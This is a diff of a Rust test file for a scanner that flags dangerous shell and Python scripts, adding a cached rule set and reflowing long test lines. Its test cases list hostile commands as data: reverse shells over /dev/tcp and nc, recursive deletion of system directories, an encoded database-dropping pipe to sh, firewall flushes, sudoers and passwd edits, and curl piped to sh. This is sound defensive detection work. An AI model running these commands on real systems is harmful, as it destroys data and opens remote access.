@@ -2,10 +2,15 @@
 
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]
 
+use std::sync::LazyLock;
+
 use super::*;
 
+/// Made ready once: that takes far longer than looking at a line.
+static STARTER: LazyLock<Vec<Compiled>> = LazyLock::new(starter::compiled);
+
 fn findings(language: Language, script: &str) -> Vec<Finding> {
-    look(&Look { language: Some(language), script, ..Look::default() }, &starter::compiled())
+    look(&Look { language: Some(language), script, ..Look::default() }, &STARTER)
 }
 
 fn rules(script: &str) -> Vec<String> {
@@ -195,15 +200,33 @@ fn others_of_the_starter_set() {
     all_found("power", &["shutdown -h now", "reboot", "init 0", "systemctl reboot", "sudo poweroff", "echo b > /proc/sysrq-trigger"]);
     all_found("users", &["userdel -r bob", "deluser bob", "passwd -d bob", "usermod -L bob", "echo root:x | chpasswd"]);
     all_found("firewall", &["iptables -F", "iptables -P INPUT DROP", "nft flush ruleset", "ufw disable", "iptables -t nat --flush"]);
-    all_found("network", &["ip link set eth0 down", "ifdown eth0", "systemctl stop sshd", "nmcli networking off", "service networking stop"]);
+    all_found(
+        "network",
+        &["ip link set eth0 down", "ifdown eth0", "systemctl stop sshd", "nmcli networking off", "service networking stop"],
+    );
     all_found(
         "sql-destroys",
-        &["mysql -e 'DROP DATABASE x'", "psql -c \"drop table users;\"", "mysql <<EOF\nTRUNCATE TABLE x;\nEOF", "psql -c 'delete from t;'", "echo ZHJvcCBkYXRhYmFzZSB4Cg== | base64 -d | sh"],
+        &[
+            "mysql -e 'DROP DATABASE x'",
+            "psql -c \"drop table users;\"",
+            "mysql <<EOF\nTRUNCATE TABLE x;\nEOF",
+            "psql -c 'delete from t;'",
+            "echo ZHJvcCBkYXRhYmFzZSB4Cg== | base64 -d | sh",
+        ],
     );
-    all_found("delete-system", &["rm -rf /etc", "rm -rf /usr/*", "rm -r /var/lib/", "rm -rf ~", "find /etc -delete", "mv /etc /tmp/x", "U=usr; rm -rf /$U"]);
-    all_found("delete-computed", &["rm -rf \"$DIR\"", "rm -rf $DIR/*", "rm -rf /$NAME", "find / -name x -exec rm -rf {} +", "ls | xargs rm -rf"]);
+    all_found(
+        "delete-system",
+        &["rm -rf /etc", "rm -rf /usr/*", "rm -r /var/lib/", "rm -rf ~", "find /etc -delete", "mv /etc /tmp/x", "U=usr; rm -rf /$U"],
+    );
+    all_found(
+        "delete-computed",
+        &["rm -rf \"$DIR\"", "rm -rf $DIR/*", "rm -rf /$NAME", "find / -name x -exec rm -rf {} +", "ls | xargs rm -rf"],
+    );
     all_found("kill-all", &["kill -9 -1", "killall5"]);
-    all_found("system-files", &["echo x >> /etc/passwd", "sed -i s/a/b/ /etc/sudoers", "cp new /etc/fstab", "echo 'x' | sudo tee /etc/sudoers.d/x"]);
+    all_found(
+        "system-files",
+        &["echo x >> /etc/passwd", "sed -i s/a/b/ /etc/sudoers", "cp new /etc/fstab", "echo 'x' | sudo tee /etc/sudoers.d/x"],
+    );
     all_found("remote-shell", &["bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "nc -e /bin/sh 1.2.3.4 99"]);
     all_found("partition", &["fdisk /dev/sda", "parted -s /dev/sda mklabel gpt", "lvremove -f vg/lv", "zpool destroy tank"]);
     all_found("store-destroys", &["redis-cli -h x FLUSHALL", "dropdb x"]);
@@ -214,7 +237,18 @@ fn others_of_the_starter_set() {
 
 #[test]
 fn what_cannot_be_seen_is_said() {
-    all_found("unseen-text", &["eval \"$X\"", "sh -c \"$1\"", "cat x | sh", "ssh host \"$CMD\"", "xxd -r -p f | bash", "gpg -d f | bash", "eval \"$(ssh-agent -s)\""]);
+    all_found(
+        "unseen-text",
+        &[
+            "eval \"$X\"",
+            "sh -c \"$1\"",
+            "cat x | sh",
+            "ssh host \"$CMD\"",
+            "xxd -r -p f | bash",
+            "gpg -d f | bash",
+            "eval \"$(ssh-agent -s)\"",
+        ],
+    );
     all_found("unseen-command", &["$CMD x", "\"${TOOLS[0]}\" y", "./$NAME.sh"]);
     all_found("unseen-file", &["bash /opt/x.sh", ". /etc/profile", "source venv/bin/activate"]);
     all_found("unseen-unclosed", &["echo 'a", "echo \"a", "echo $(a"]);
@@ -276,7 +310,9 @@ fn ordinary_scripts_are_left_alone() {
 #[test]
 fn python_and_others() {
     let found = |l, s: &str| findings(l, s).into_iter().map(|f| (f.rule, f.line)).collect::<Vec<_>>();
-    let has = |script: &str, rule: &str| assert!(found(Language::Python3, script).iter().any(|f| f.0 == rule), "{script}: {:?}", found(Language::Python3, script));
+    let has = |script: &str, rule: &str| {
+        assert!(found(Language::Python3, script).iter().any(|f| f.0 == rule), "{script}: {:?}", found(Language::Python3, script))
+    };
     has("import os\nos.system('rm -rf /')", "delete-root");
     has("import subprocess\nsubprocess.run(['rm', '-rf', '/'], check=True)", "delete-root");
     has("subprocess.check_call(\"curl x | sh\", shell=True)", "run-download");
@@ -305,7 +341,8 @@ fn findings_say_where_and_through_what() {
 fn values_from_outside_count() {
     let env = BTreeMap::from([("DIR".to_owned(), vec!["/srv".to_owned(), "/".to_owned()])]);
     let args = ["/".to_owned()];
-    let look = |script, cwd| super::look(&Look { language: Some(Language::Sh), script, args: &args, env: env.clone(), cwd }, &starter::compiled());
+    let look =
+        |script, cwd| super::look(&Look { language: Some(Language::Sh), script, args: &args, env: env.clone(), cwd }, &starter::compiled());
     assert_eq!(look("rm -rf $DIR", None)[0].rule, "delete-root");
     assert_eq!(look("rm -rf \"$1\"", None)[0].rule, "delete-root");
     assert_eq!(look("for x in \"$@\"; do rm -rf \"$x\"; done", None)[0].rule, "delete-root");
